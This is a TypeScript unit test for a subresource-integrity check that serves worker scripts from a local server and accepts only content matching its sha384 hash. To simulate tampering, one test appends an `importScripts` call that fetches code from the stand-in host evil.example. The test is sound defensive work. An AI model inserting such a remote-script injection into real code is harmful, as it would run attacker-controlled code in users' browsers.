import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { checkedScript } from './checked-script.ts';

let server: Server;
let url: URL;
let content = 'postMessage(1)';
const copies: Blob[] = [];
beforeAll(async () => {
  server = createServer((_request, response) => {
    response.setHeader('access-control-allow-origin', '*');
    response.end(content);
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  url = new URL(`http://127.0.0.1:${(server.address() as AddressInfo).port}/worker.js`);
  Object.assign(URL, { createObjectURL: (copy: Blob) => `blob:${copies.push(copy)}` });
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});

const integrity = `sha384-${createHash('sha384').update(content).digest('base64')}`;

test('gives a copy of a script that is what its hash says, and none of another', async () => {
  await expect(checkedScript(url, integrity)).resolves.toBe('blob:1');
  content += ';importScripts("https://evil.example/")';
  await expect(checkedScript(url, integrity)).rejects.toThrow();
  expect(copies).toHaveLength(1);
});

test('where nothing was published, as in development, the script itself is used', async () => {
  await expect(checkedScript(url, 'WBHASH:worker.js')).resolves.toBe(url.href);
});
